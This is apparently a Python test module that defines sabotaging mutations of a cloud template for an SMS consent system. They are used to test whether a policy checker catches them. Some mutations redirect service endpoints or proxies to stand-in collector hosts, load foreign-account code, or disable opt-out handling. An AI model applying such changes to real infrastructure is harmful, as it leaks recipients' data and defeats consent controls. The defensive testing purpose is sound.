"""Wires between two programs, other code in the functions, and workflows that do more or less than they must."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from tests.infra.policy.attacks.attack import Kind, Place, Promise
from tests.infra.policy.attacks.edits import drop, function, put, several
from tests.infra.policy.attacks.judging.program import FOREIGN_ACCOUNT, Program, allow, att, ref
from tests.infra.policy.attacks.judging.workspace import Json, NotApplicableError

if TYPE_CHECKING:
    from random import Random

WIRE = Kind("a wire to another program", Place.PROGRAM)
CODE = Kind("other code in a function", Place.PROGRAM)
FLOW = Kind("a workflow that does something else", Place.PROGRAM)
P = Promise
ENV = "Environment.Variables"


@WIRE.program("the manifest of another program", P.APART, "The gate knows another brand's topics, hours and templates.")
def _(program: Program, rng: Random) -> None:
    other = program.other(rng)
    mine, theirs = (
        [p.properties(one)["Content"] for one in p.of_type("Lambda::LayerVersion")] for p in (program, other)
    )
    for content in mine:
        if content not in theirs:
            content["S3Key"] = next(one["S3Key"] for one in theirs if one not in mine)
            return
    raise NotApplicableError("both programs have the same layers")


@WIRE.program("the cascade hears another legal entity", P.APART, "A STOP to one company opts out of another.")
def _(program: Program, _: Random) -> None:
    rule = program.properties(program.rule_for(program.queue("cascade")))
    rule["EventPattern"]["detail"]["legal_entity"] = ["Contoso LLC"]


@WIRE.program("the cascade hears every event of the bus", P.APART, "Events of any kind and environment are recorded.")
def _(program: Program, _: Random) -> None:
    rule = program.properties(program.rule_for(program.queue("cascade")))
    rule["EventPattern"] = {"source": [{"exists": True}]}


@WIRE.program("the cascade hears its own program", P.CONSENT, "An opt-out is announced to itself for ever.")
def _(program: Program, _: Random) -> None:
    del program.properties(program.rule_for(program.queue("cascade")))["EventPattern"]["detail"]["program"]


@WIRE.program("opt-outs are announced on the default bus", P.NUMBERS, "Every rule of the account hears the numbers.")
def _(program: Program, _: Random) -> None:
    program.variables("announcer")["CONSENT_BUS"] = "default"
    program.statements(program.role("announcer")).append(
        allow("events:PutEvents", f"arn:aws:events:{program.region}:{program.account}:event-bus/default"),
    )


@WIRE.program("opt-outs are announced on another account's bus", P.NUMBERS, "Numbers leave the account.")
def _(program: Program, _: Random) -> None:
    bus = f"arn:aws:events:{program.region}:{FOREIGN_ACCOUNT}:event-bus/consent"
    program.variables("announcer")["CONSENT_BUS"] = bus
    program.statements(program.role("announcer")).append(allow("events:PutEvents", bus))


@WIRE.program("two programs' logs in one group", P.APART, "One program's logs lie among another's.")
def _(program: Program, rng: Random) -> None:
    other = program.other(rng)
    group = other.properties(other.one("Logs::LogGroup", rng))["LogGroupName"]
    program.properties(program.function("send_gate"))["LoggingConfig"]["LogGroup"] = group


@WIRE.program("resources bear another program's tags", P.APART, "What is held to a brand's tags reaches this brand.")
def _(program: Program, rng: Random) -> None:
    other = program.other(rng)
    for name in ("LEDGER", "SUBSCRIPTIONS"):
        program.properties(program.table(name))["Tags"] = [{"Key": k, "Value": v} for k, v in other.tags.items()]


@WIRE.program("metrics under another brand's name", P.ALARM, "This program's faults are counted for another's alarms.")
def _(program: Program, rng: Random) -> None:
    other = program.other(rng)
    for one in program.of_type("CloudWatch::Alarm"):
        properties = program.properties(one)
        looked_at = [each["MetricStat"]["Metric"] for each in properties.get("Metrics", []) if "MetricStat" in each]
        for item in (item for metric in looked_at or [properties] for item in metric.get("Dimensions", [])):
            if item["Name"] == "Brand":
                item["Value"] = other.tags["Brand"] + "x"


@WIRE.program(
    "exports for whoever imports them", P.NUMBERS, "Any stack of the account finds queue, ledger and archive."
)
def _(program: Program, _: Random) -> None:
    statement = allow("dynamodb:Query", "*", Principal={"AWS": f"arn:aws:iam::{program.account}:root"})
    policy = {"PolicyDocument": {"Version": "2012-10-17", "Statement": [statement]}}
    program.properties(program.table("LEDGER"))["ResourcePolicy"] = policy
    program.template["Outputs"]["Ledger"]["Export"] = {"Name": f"{program.stack}:Ledger"}


for _name, _who, _promise, _harm, _variable, _value in (
    ("an endpoint of another host for every call", "send_gate", P.NUMBERS, "Numbers and texts go to another host.",
     "AWS_ENDPOINT_URL", "https://aws.collector.example.net"),
    ("an endpoint of another host for DynamoDB", "keyword_handler", P.CONSENT, "Consent is kept by another host.",
     "AWS_ENDPOINT_URL_DYNAMODB", "https://dynamodb.collector.example.net"),
    ("a wrapper around the runtime", "keyword_handler", P.CONSENT, "A script runs before and instead of the handler.",
     "AWS_LAMBDA_EXEC_WRAPPER", "/opt/wrapper"),
    ("a proxy that reads all", "keyword_handler", P.NUMBERS, "Every call passes another host.", "HTTPS_PROXY",
     "http://proxy.example.net:3128"),
    ("certificates of another authority", "keyword_handler", P.NUMBERS, "Calls are read on the way.", "AWS_CA_BUNDLE",
     "/opt/ca.pem"),
    ("a profile that does not exist", "keyword_handler", P.CONSENT, "Each call fails, and so does each STOP.",
        "AWS_PROFILE",
     "team"),
    ("no metrics", "reconcile", P.ALARM, "Drift of opt-outs is found and not counted.", "POWERTOOLS_METRICS_DISABLED",
     "true"),
    ("another message type", "send_gate", P.DATA, "Codes are handed over as marketing and come after they expired.",
     "MESSAGE_TYPE", "PROMOTIONAL"),
    ("no list to ask", "send_gate", P.CONSENT, "The gate asks no list of opt-outs.", "OPT_OUT_LIST", "Default"),
    ("no configuration set", "send_gate", P.ALARM, "Outcomes are not reported.", "CONFIGURATION_SET", ""),
    ("deactivations of another bucket", "list_audit", P.CONSENT, "Numbers that changed hands stay.", "DEACTIVATIONS",
     "partner-deactivations"),
    ("mappings of nobody to pause", "delivery_events", P.ALARM, "An unhealthy program cannot pause.", "GATE_MAPPINGS",
     ""),
    ("another queue for what is heard", "keyword_handler", P.CONSENT, "Posts of the form are taken for texts.",
     "FORM_QUEUE_ARN", "arn:aws:sqs:us-east-1:000000000000:other"),
):  # fmt: skip
    CODE.add_on_program(_name, _promise, _harm, put(function(_who), f"{ENV}.{_variable}", _value))

for _name, _promise, _harm, _change in (
    ("the keyword handler runs another handler", P.CONSENT, "A STOP is handled as a delivery event.", put(
        function("keyword_handler"), "Handler", "lambdas.functions.delivery_events.handler.handler")),
    ("the gate is a module that answers yes", P.GATE, "A module of the standard library is the gate.", put(
        function("send_gate"), "Handler", "json.loads")),
    ("the reconciler runs nothing", P.CONSENT, "A handler that returns at once.", put(
        function("reconcile"), "Handler", "builtins.print")),
    ("the archiver runs the announcer", P.DATA, "The ledger is not copied.", put(
        function("archive"), "Handler", "lambdas.functions.announcer.handler.handler")),
    ("a layer of another account", P.GATE, "Foreign code is loaded into the gate.", lambda p, _: p.properties(
        p.function("send_gate"))["Layers"].append(f"arn:aws:lambda:{p.region}:{FOREIGN_ACCOUNT}:layer:metrics:7")),
    ("no manifest for the gate", P.DATA, "The gate cannot start, and requests expire.", lambda p, _: p.properties(
        p.function("send_gate"))["Layers"].pop()),
    ("a container in the place of the code", P.GATE, "The gate is whatever the image holds.",
     lambda p, _: _contain(p.properties(p.function("send_gate")), p.region)),
    ("code in the template", P.GATE, "The gate sends without asking.", put(function("send_gate"), "Code", {
        "ZipFile": "def handler(event, context):\n    return {}"})),
    ("two functions' roles are swapped", P.CONSENT, "The form has the handler's rights.", lambda p, _: _swap(
        p, "opt_in_form", "keyword_handler", "Role")),
    ("two functions' variables are swapped", P.DATA, "Neither the gate nor a campaign can work.", lambda p, _: _swap(
        p, "send_gate", "campaign", "Environment")),
    ("an x86 function with arm layers", P.CONSENT, "The handler cannot load its libraries.", put(
        function("keyword_handler"), "Architectures", ["x86_64"])),
    ("too little memory to start", P.CONSENT, "The handler dies while it loads.", put(
        function("keyword_handler"), "MemorySize", 128)),
):  # fmt: skip
    CODE.add_on_program(_name, _promise, _harm, _change)


def _contain(gate: Json, region: str) -> None:
    gate.update(PackageType="Image", Code={"ImageUri": f"{FOREIGN_ACCOUNT}.dkr.ecr.{region}.amazonaws.com/gate:latest"})
    for key in ("Handler", "Runtime", "Layers"):
        del gate[key]


def _swap(program: Program, one: str, other: str, key: str) -> None:
    first, second = program.properties(program.function(one)), program.properties(program.function(other))
    first[key], second[key] = second[key], first[key]


def campaign(program: Program) -> str:
    return program.workflow("campaign")


def audit(program: Program) -> str:
    return program.workflow("audit")


for _name, _promise, _harm, _change in (
    ("the campaign texts by itself", P.GATE, "The workflow calls the text API, past the gate.", lambda p, _: (
        p.properties(campaign(p)).update(DefinitionString=json.dumps({"StartAt": "Text", "States": {"Text": {
            "Type": "Task", "Resource": "arn:aws:states:::aws-sdk:pinpointsmsvoicev2:sendTextMessage", "End": True,
            "Parameters": {"DestinationPhoneNumber.$": "$.to", "MessageBody.$": "$.body"}}}})),
        p.statements(p.properties(campaign(p))["RoleArn"]["Fn::GetAtt"][0]).append(
            allow("sms-voice:SendTextMessage", "*")))),
    ("the campaign does not retry", P.DATA, "One throttled call ends a campaign half-way.",
     lambda p, _: p.replace_in_definition(campaign(p), '"MaxAttempts": 6', '"MaxAttempts": 0')),
    ("zones whose hours have not begun are left out", P.DATA, "Recipients in the west are never asked for.",
     lambda p, _: p.replace_in_definition(
         campaign(p), '"StringEquals": "wait", "Next": "ZonesWait"', '"StringEquals": "wait", "Next": "ZonesWalked"')),
    ("the campaign runs two hundred zones' steps at once", P.CONSENT, "The gate is flooded and STOPs find no run.",
     lambda p, _: p.replace_in_definition(campaign(p), '"MaxConcurrency": 100', '"MaxConcurrency": 10000')),
    ("the campaign begins in the middle", P.GATE, "Its steps are whatever the caller says.",
     lambda p, _: p.replace_in_definition(campaign(p), '"StartAt": "Open"', '"StartAt": "Zones"')),
    ("the audit acts where it must not", P.CONSENT, "It acts unasked, and does not where it was asked to.",
     lambda p, _: p.replace_in_definition(audit(p), '"BooleanEquals": true', '"BooleanEquals": false')),
    ("the definition comes from a bucket", P.GATE, "The workflow is whatever the object says.", several(
        lambda p, _: p.properties(campaign(p)).update(DefinitionS3Location={"Bucket": "flows", "Key": "campaign.json"}),
        drop(campaign, "DefinitionString"))),
    ("the definition is filled in by a parameter", P.GATE, "The function that is called is named at deploy.",
     lambda p, _: p.properties(campaign(p)).pop("DefinitionString") and p.properties(campaign(p)).update(
         Definition={"StartAt": "Do", "States": {"Do": {
             "Type": "Task", "Resource": "${Do}", "End": True}}},
         DefinitionSubstitutions={"Do": p.parameter("Do", "/team/do")})),
    ("runs are logged with all data", P.NUMBERS, "Audiences and numbers are logged.", put(
        campaign, "LoggingConfiguration", lambda p: {
            "Level": "ALL", "IncludeExecutionData": True, "Destinations": [{"CloudWatchLogsLogGroup": {
                "LogGroupArn": f"arn:aws:logs:{p.region}:{p.account}:log-group:/flows:*"}}]})),
    ("the workflow is an express one", P.DATA, "A run of days ends after five minutes.", put(
        campaign, "StateMachineType", "EXPRESS")),
    ("each step calls a function of another account", P.NUMBERS, "Steps and audiences leave the account.",
     lambda p, _: p.definition(campaign(p)).__setitem__(
         slice(None), [piece if isinstance(piece, str) else f"arn:aws:lambda:{p.region}:{FOREIGN_ACCOUNT}:function:walk"
                       for piece in p.definition(campaign(p))])),
    ("the workflow's role is the gate's", P.GATE, "A workflow may send.", lambda p, _: (
        p.properties(p.role("send_gate"))["AssumeRolePolicyDocument"]["Statement"][0]["Principal"].update(
            Service=["lambda.amazonaws.com", "states.amazonaws.com"]),
        p.properties(campaign(p)).update(RoleArn=att(p.role("send_gate"))))),
    ("the workflow calls the gate", P.GATE, "Made-up batches of requests reach the gate.", lambda p, _: (
        p.statements(p.properties(campaign(p))["RoleArn"]["Fn::GetAtt"][0]).append(
            allow("lambda:InvokeFunction", [att(p.function("send_gate"))])),
        p.variables("campaign").update(CAMPAIGN_GATE=ref(p.function("send_gate"))))),
):  # fmt: skip
    FLOW.add_on_program(_name, _promise, _harm, _change)

ATTACKS = [*WIRE.attacks, *CODE.attacks, *FLOW.attacks]
